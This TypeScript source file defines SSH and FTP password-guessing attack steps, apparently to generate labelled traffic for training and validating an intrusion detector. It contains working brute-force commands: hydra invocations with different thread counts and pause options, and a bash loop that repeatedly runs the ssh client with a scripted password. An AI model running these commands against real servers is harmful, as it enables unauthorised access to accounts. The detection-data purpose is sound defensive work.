/** Password guessing against ssh and ftp: hydra, one thread to many, with and without pauses; and a loop around ssh itself. */
import { chmod, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { type AttackFamily, type AttackStep, between } from './attack-step.ts';

const guess = (service: 'ssh' | 'ftp', threads: number, options = '', seconds = 24): AttackStep => ({
  name: `hydra ${service} -t ${threads} ${options}`.trim(),
  class: service === 'ssh' ? 'brute_force_ssh' : 'brute_force_ftp',
  seconds,
  command: async ({ site, random, attacker, folder }) => {
    const words = join(folder, 'words');
    const guesses = Array.from({ length: 600 }, () => random.word(random.integer(4, 14)));
    await writeFile(words, `${guesses.join('\n')}\n`);
    const victim = random.pick(site.serving(service)).address;
    const user = random.pick(['root', 'admin', 'pi', 'support']);
    const extra = options === '' ? [] : options.split(' ');
    return {
      from: attacker,
      argv: ['hydra', '-I', '-q', '-l', user, '-P', words, '-t', String(threads), ...extra, `${service}://${victim}`],
      truth: [between(attacker.address, victim)],
    };
  },
});

/** Hydra keeps a connection for all guesses a server allows; a loop around the client takes a new one for each. */
const guessWithClient = (parallel: number, pauseSeconds: number, seconds = 24): AttackStep => ({
  name: `ssh in ${parallel} loops, pause ${pauseSeconds} s`,
  class: 'brute_force_ssh',
  seconds,
  command: async ({ site, random, attacker, folder }) => {
    const guess = join(folder, 'guess');
    await writeFile(guess, '#!/bin/sh\necho "guess$$"\n');
    await chmod(guess, 0o755);
    const victim = random.pick(site.serving('ssh')).address;
    const options = ['StrictHostKeyChecking=no', 'UserKnownHostsFile=/dev/null', 'PubkeyAuthentication=no'];
    const client = ['ssh', ...[...options, 'NumberOfPasswordPrompts=1', 'ConnectTimeout=5'].map((one) => `-o${one}`)];
    const script = `
      export SSH_ASKPASS=${guess} SSH_ASKPASS_REQUIRE=force
      trap 'kill 0' EXIT
      for loop in $(seq ${parallel}); do while :; do "$@" true; sleep ${pauseSeconds}; done & done
      sleep ${seconds}`;
    return {
      from: attacker,
      argv: ['setsid', '-w', 'bash', '-c', script, 'bash', ...client, `${random.pick(['root', 'admin'])}@${victim}`],
      truth: [between(attacker.address, victim)],
    };
  },
});

export const bruteForceSsh: AttackFamily = {
  name: 'brute-force-ssh',
  description: 'hydra against sshd, 1 to 32 at a time; loops around ssh',
  steps: {
    train: [
      guess('ssh', 4),
      guess('ssh', 16),
      guess('ssh', 1),
      guess('ssh', 2, '-W 1'),
      guess('ssh', 8),
      guess('ssh', 1, '-c 2', 30),
      guess('ssh', 12, '-e nsr'),
      guess('ssh', 32),
      guessWithClient(1, 0),
      guessWithClient(4, 0.2),
      guessWithClient(10, 1),
    ],
    validation: [
      guess('ssh', 6),
      guess('ssh', 3, '-e n'),
      guess('ssh', 10, '-W 2'),
      guess('ssh', 24),
      guessWithClient(2, 0.1),
      guessWithClient(6, 0.5),
      guess('ssh', 1, '-c 3', 30),
    ],
    demo: [guess('ssh', 4, '', 12)],
  },
};

export const bruteForceFtp: AttackFamily = {
  name: 'brute-force-ftp',
  description: 'hydra against vsftpd, 1 to 16 at a time',
  steps: {
    train: [
      guess('ftp', 4),
      guess('ftp', 16),
      guess('ftp', 1),
      guess('ftp', 8, '-e nsr'),
      guess('ftp', 2, '-W 1'),
      guess('ftp', 1, '-c 2', 30),
    ],
    validation: [guess('ftp', 6), guess('ftp', 12, '-e n'), guess('ftp', 3, '-W 2'), guess('ftp', 1, '-c 3', 30)],
    demo: [],
  },
};
